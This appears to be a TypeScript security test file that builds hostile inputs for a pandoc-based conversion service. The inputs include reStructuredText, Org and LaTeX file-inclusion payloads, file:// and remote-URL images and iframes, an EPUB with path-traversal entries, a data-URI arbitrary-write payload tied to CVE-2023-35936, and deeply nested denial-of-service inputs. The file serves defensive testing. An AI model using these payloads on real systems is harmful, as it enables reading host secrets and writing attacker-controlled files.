/** Classes PD1 to PD5: markup that includes, fetches, unpacks and nests. */
import { zipFile } from "#test/harness/zip-file.ts";
import { type Aim, type Attack, attackOnTo, from } from "./attack.ts";

const attack = attackOnTo("pandoc", ["html", "docx"]);

export const restIncludes = ({ secretFile }: Aim): string =>
  `Title\n=====\n\n.. include:: ${secretFile}\n\n.. csv-table:: t\n   :file: ${secretFile}\n\n.. raw:: html\n   :file: ${secretFile}\n`;
export const orgInclude = ({ secretFile }: Aim): string => `#+INCLUDE: "${secretFile}"\n\n* Heading\n\nText.\n`;
export const linkedPictures = ({ secretPicture, url }: Aim): string =>
  `# Pictures\n\n![x](${secretPicture})\n\n![y](file://${secretPicture})\n\n![z](${url}/pandoc.png)\n`;
const frames = ({ secretFile, secretPicture, url }: Aim): string =>
  `<html><body><p>Frames</p><iframe src="${url}/frame"></iframe><iframe src="${secretFile}"></iframe><img src="${url}/a.png"><img src="${secretPicture}"><object data="file://${secretFile}"></object><link rel=stylesheet href="${url}/a.css"></body></html>`;
const tex = ({ secretFile, secretPicture }: Aim): string =>
  `\\documentclass{article}\\begin{document}A \\input{${secretFile}} \\include{${secretFile}} \\includegraphics{${secretPicture}} \\lstinputlisting{${secretFile}}\\end{document}`;

function epub({ secretFile, secretPicture, url }: Aim): Buffer {
  const container =
    '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="c.opf" media-type="application/oebps-package+xml"/></rootfiles></container>';
  const item = (id: string, href: string, type: string) => `<item id="${id}" href="${href}" media-type="${type}"/>`;
  const manifest =
    item("a", "a.xhtml", "application/xhtml+xml") +
    item("s", `../../../../../..${secretFile}`, "text/plain") +
    item("p", `file://${secretPicture}`, "image/png");
  const book = `<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="2.0" unique-identifier="i"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>t</dc:title><dc:identifier id="i">x</dc:identifier><dc:language>en</dc:language></metadata><manifest>${manifest}</manifest><spine><itemref idref="a"/><itemref idref="s"/></spine></package>`;
  const chapter = `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><p>Chapter</p><img src="file://${secretPicture}"/><img src="../../../../../..${secretPicture}"/><img src="${url}/epub.png"/><iframe src="file://${secretFile}"/></body></html>`;
  return zipFile([
    { name: "mimetype", content: "application/epub+zip", isStored: true },
    { name: "META-INF/container.xml", content: container },
    { name: "c.opf", content: book },
    { name: "a.xhtml", content: chapter },
  ]);
}

export const markupAttacks: readonly Attack[] = [
  attack("PD1-rst", "reStructuredText that includes the host's files", "a.rst", restIncludes, "INVALID_INPUT", from("rst")),
  attack("PD1-org", "Org that includes the host's files", "a.org", orgInclude, "converts", from("org")),
  attack("PD1-tex", "LaTeX that reads the host's files", "a.tex", tex, "converts", from("tex")),
  attack("PD2-pictures", "Markdown with pictures of the host and the network", "a.md", linkedPictures, "converts", {
    to: ["html", "docx", "odt", "epub", "pdf"],
  }),
  attack("PD2-frames", "HTML with frames of the host and the network (CVE-2025-51591)", "a.html", frames, "converts", {
    to: ["md", "docx", "epub", "pdf"],
  }),
  attack("PD2-book", "an EPUB whose parts are the host's files", "a.epub", epub, "converts", { to: ["html", "docx"] }),
  attack(
    "PD3-unpack",
    "a picture whose type is a path to write to (CVE-2023-35936)",
    "a.md",
    ({ outDir }) =>
      `# Data\n\n![](data://image/png;base64,cHJpbnQgImhlbGxvIgo=;.lua+%252f%252e%252e%252f%252e%252e%252f${encodeURIComponent(outDir)}%252fpandoc)\n\n![a](data:image/png;base64,cHJpbnQgImhlbGxvIgo=;.lua+%2f%2e%2e%2f%2e%2e%2fpandoc)`,
    "converts",
    { to: ["docx", "epub"] },
  ),
  attack("PD5-brackets", "60,000 brackets inside each other", "a.md", () => "[".repeat(60_000) + "]".repeat(60_000), "is bounded", {
    ...from("md"),
    to: ["html"],
  }),
  attack("PD5-quotes", "20,000 quotations inside each other", "a.md", () => `${">".repeat(20_000)} x\n`, "is bounded", {
    ...from("md"),
    to: ["html"],
  }),
  attack(
    "PD5-json",
    "a notebook of 100,000 lists inside each other",
    "a.ipynb",
    () => `{"nbformat":4,"cells":${"[".repeat(100_000)}${"]".repeat(100_000)}}`,
    "INVALID_INPUT",
    { ...from("ipynb"), to: ["html"] },
  ),
];
